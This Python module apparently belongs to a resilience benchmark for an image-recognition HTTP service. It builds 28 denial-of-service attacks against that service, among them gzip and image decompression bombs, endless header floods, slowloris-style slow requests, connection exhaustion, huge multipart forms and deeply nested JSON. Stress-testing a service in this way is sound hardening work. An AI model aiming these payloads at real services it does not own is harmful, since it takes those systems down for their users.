"""The attacks by name. Each builds what it sends for one target, once, before it begins.

`size` shrinks what an attack sends and holds: 1 for what it is known by, 0.01 for a look that
does not block the machine for long.
"""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Callable, Sequence

from benchmarks.service.hostile import images
from benchmarks.service.hostile.attack import (
    Attack,
    Endless,
    Hold,
    Post,
    PostAndLeave,
    PostUnread,
    Target,
)

KIB, MIB = 2**10, 2**20
_HEADERS_BYTES_PER_S = 10.0 * MIB
_FORM = "distilrec-attack"
_FORM_TYPE = f"Content-Type: multipart/form-data; boundary={_FORM}"
_CHUNK = b"400\r\n" + b"a" * KIB + b"\r\n"


def nothing(target: Target, size: float) -> Attack:
    """Send nothing through two connections: what the measure itself varies by."""
    return Hold(b"", b"", connections=2, per_second=2)


def jpeg_fill(target: Target, size: float) -> Attack:
    """Send JPEGs of 1 MiB of fill bytes, behind which no marker comes."""
    return _images(target, images.jpeg_fill(_scale(MIB, size)), connections=4, per_second=8)


def pnm_newlines(target: Target, size: float) -> Attack:
    """Send PNM files of 1 MiB of white space where the width should stand."""
    return _images(target, images.pnm_newlines(_scale(MIB, size)), connections=4, per_second=8)


def jpeg_scans(target: Target, size: float) -> Attack:
    """Send progressive JPEGs of 64 million pixels in 1,000 scans, four at a time."""
    return _images(target, images.jpeg_scans(7992, _scale(1000, size)), connections=4, per_second=4)


def jpeg_fewer_scans(target: Target, size: float) -> Attack:
    """Send such JPEGs of 90 scans: what a bound on scans may let through."""
    return _images(target, images.jpeg_scans(7992, _scale(90, size)), connections=4, per_second=4)


def large_png(target: Target, size: float) -> Attack:
    """Send PNGs of 64 million pixels in 64 kB, which are allowed and cost CPU time."""
    return _images(target, images.large_png(_scale(7992, size**0.5)), connections=4, per_second=4)


def tiff_overlap(target: Target, size: float) -> Attack:
    """Send TIFFs of 1,000 directories of 65,535 entries that lie over one another."""
    return _images(target, images.tiff_overlap(_scale(1000, size)), connections=4, per_second=4)


def tiff_slong(target: Target, size: float) -> Attack:
    """Send TIFFs of 900 million pixels whose size is of a type that few header readers know."""
    side = _scale(30_000, size**0.5)
    return _images(target, images.tiff_slong(side), connections=4, per_second=4)


def header_many(target: Target, size: float) -> Attack:
    """Send header lines without end, each of a name of its own."""
    lines = b"".join(b"x%d: y\r\n" % number for number in range(8000))
    return _headers(target, b"", lines, size)


def header_one(target: Target, size: float) -> Attack:
    """Send one header line without end."""
    return _headers(target, b"x: ", b"a" * 64 * KIB, size)


def header_cookie(target: Target, size: float) -> Attack:
    """Send header lines without end, all of one name and nearly empty."""
    return _headers(target, b"", b"cookie:a\r\n" * 8000, size)


def header_url(target: Target, size: float) -> Attack:
    """Send a request line without end."""
    return _endless(b"GET /", b"a" * 64 * KIB, b" HTTP/1.1\r\nHost: x\r\n\r\n", size)


def trailers(target: Target, size: float) -> Attack:
    """Send header lines without end behind the last chunk of a body."""
    head = _head(target, "/recognize", "Transfer-Encoding: chunked") + _CHUNK + b"0\r\n"
    lines = b"".join(b"x%d: y\r\n" % number for number in range(8000))
    return _endless(head, lines, b"\r\n", size)


def chunk_extension(target: Target, size: float) -> Attack:
    """Send an extension without end in the line that says how long a chunk is."""
    head = _head(target, "/recognize", "Transfer-Encoding: chunked") + _CHUNK + b"1;x="
    return _endless(head, b"a" * 64 * KIB, b"\r\na\r\n0\r\n\r\n", size)


def half_headers(target: Target, size: float) -> Attack:
    """Hold 1,000 connections whose headers come on at a byte a second."""
    head = f"POST /recognize HTTP/1.1\r\nHost: {target.host}\r\nX-a: b".encode()
    return Hold(head, b"c", _scale(1000, size), per_second=200)


def silent(target: Target, size: float) -> Attack:
    """Hold 1,000 connections that say nothing."""
    return Hold(b"", b"", _scale(1000, size), per_second=200)


def connections(target: Target, size: float) -> Attack:
    """Hold silent connections, 100 more than the 1,024 descriptors a process usually has."""
    return Hold(b"", b"", _scale(1124, size), per_second=500)


def idle_bodies(target: Target, size: float) -> Attack:
    """Hold 200 requests whose bodies stop after two of 100 bytes."""
    head = _head(target, "/recognize", "Content-Length: 100") + b"ab"
    return Hold(head, b"", _scale(200, size), per_second=100)


def dripping_bodies(target: Target, size: float) -> Attack:
    """Hold 200 requests whose bodies come on at a byte a second."""
    head = _head(target, "/recognize", "Content-Length: 1000000") + b"ab"
    return Hold(head, b"c", _scale(200, size), per_second=100)


def idle_chunks(target: Target, size: float) -> Attack:
    """Hold 64 uploads in chunks that stop after the first KiB, whose length nobody knows."""
    head = _head(target, "/recognize", "Transfer-Encoding: chunked") + _CHUNK
    return Hold(head, b"", _scale(64, size), per_second=50)


def repeated_outputs(target: Target, size: float) -> Attack:
    """Send requests that ask 20,000 times for the same output of 16 images."""
    encoded = base64.b64encode(target.image).decode()
    message = {
        "inputs": [{"name": "image", "datatype": "BYTES", "shape": [16], "data": [encoded] * 16}],
        "outputs": [{"name": "text"}] * _scale(20_000, size),
    }
    return _infer(target, [json.dumps(message).encode()])


def gzip_bomb(target: Target, size: float) -> Attack:
    """Send bodies of 256 KiB that unpack to 256 MiB."""
    packer = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    pieces = [packer.compress(bytes(MIB)) for _ in range(_scale(256, size))]
    body = b"".join([*pieces, packer.flush()])
    request = _request(target, "/recognize", body, "Content-Encoding: gzip")
    return Post([request], connections=4, per_second=8)


def large_json(target: Target, size: float) -> Attack:
    """Send JSON of 15 MiB that holds one image in base64."""
    data = "A" * _scale(15 * MIB, size)
    tensor = {"name": "image", "datatype": "BYTES", "shape": [1], "data": [data[len(data) % 4 :]]}
    return _infer(target, [json.dumps({"inputs": [tensor]}).encode()])


def json_nesting(target: Target, size: float) -> Attack:
    """Send JSON of a million lists in one another, and of as many as its parser just takes."""
    tensor = '{"inputs":[{"name":"image","datatype":"BYTES","shape":[1],"data":%s"aGk="%s}]}'
    bodies = [b'{"inputs":' + b"[" * _scale(1_000_000, size)]
    bodies += [(tensor % ("[" * depth, "]" * depth)).encode() for depth in (200, 700, 900, 980)]
    return _infer(target, bodies)


def form_parts(target: Target, size: float) -> Attack:
    """Send forms of 200,000 empty parts."""
    part = f'--{_FORM}\r\nContent-Disposition: form-data; name=a; filename="a"\r\n\r\n\r\n'
    body = part.encode() * _scale(200_000, size) + f"--{_FORM}--\r\n".encode()
    return Post([_request(target, "/recognize", body, _FORM_TYPE)], connections=4, per_second=4)


def form_header(target: Target, size: float) -> Attack:
    """Send forms of one part, whose header is 15 MiB."""
    head = f"--{_FORM}\r\nContent-Disposition: form-data; name=a; filename=".encode()
    body = head + b"a" * _scale(15 * MIB, size) + f"\r\n\r\na\r\n--{_FORM}--\r\n".encode()
    return Post([_request(target, "/recognize", body, _FORM_TYPE)], connections=4, per_second=4)


def pipelined(target: Target, size: float) -> Attack:
    """Ask 20,000 times in a row through a connection and read no answer."""
    once = b"GET /health HTTP/1.1\r\nHost: " + target.host.encode() + b"\r\n\r\n"
    return PostUnread([once * _scale(20_000, size)], connections=8, per_second=8)


def disconnects(target: Target, size: float) -> Attack:
    """Send requests of 16 images and hang up before they are answered, ten a second."""
    part = f'--{_FORM}\r\nContent-Disposition: form-data; name=a; filename="a"\r\n\r\n'
    body = (part.encode() + target.image + b"\r\n") * _scale(16, size)
    request = _request(target, "/recognize", body + f"--{_FORM}--\r\n".encode(), _FORM_TYPE)
    return PostAndLeave([request], connections=4, per_second=10)


ATTACKS: dict[str, Callable[[Target, float], Attack]] = {
    attack.__name__: attack
    for attack in (
        nothing, jpeg_fill, pnm_newlines, jpeg_scans, jpeg_fewer_scans, large_png, tiff_overlap,
        tiff_slong, header_many, header_one, header_cookie, header_url, trailers, chunk_extension,
        half_headers, silent, connections, idle_bodies, dripping_bodies, idle_chunks,
        repeated_outputs, gzip_bomb, large_json, json_nesting, form_parts, form_header, pipelined,
        disconnects,
    )
}  # fmt: skip
"""Every attack: takes the target and the size, gives what carries it out."""


def _scale(number: int, size: float) -> int:
    return max(1, round(number * size))


def _head(target: Target, path: str, *headers: str) -> bytes:
    kind = (
        ()
        if any(header.startswith("Content-Type") for header in headers)
        else ("Content-Type: a/b",)
    )
    lines = (f"POST {path} HTTP/1.1", f"Host: {target.host}", *kind, *headers, "", "")
    return "\r\n".join(lines).encode()


def _request(target: Target, path: str, body: bytes, *headers: str) -> bytes:
    return _head(target, path, *headers, f"Content-Length: {len(body)}") + body


def _images(target: Target, image: bytes, connections: int, per_second: float) -> Attack:
    return Post([_request(target, "/recognize", image)], connections, per_second)


def _infer(target: Target, bodies: Sequence[bytes]) -> Attack:
    path = f"/v2/models/{target.model}/infer"
    kind = "Content-Type: application/json"
    requests = [_request(target, path, body, kind) for body in bodies]
    return Post(requests, connections=4, per_second=8)


def _headers(target: Target, begin: bytes, chunk: bytes, size: float) -> Attack:
    head = f"GET /health HTTP/1.1\r\nHost: {target.host}\r\n".encode() + begin
    return _endless(head, chunk, b"\r\n\r\n", size)


def _endless(head: bytes, chunk: bytes, tail: bytes, size: float) -> Attack:
    most = _scale(200 * MIB, size)
    return Endless(head, chunk, tail, most, _HEADERS_BYTES_PER_S, connections=2, per_second=10)
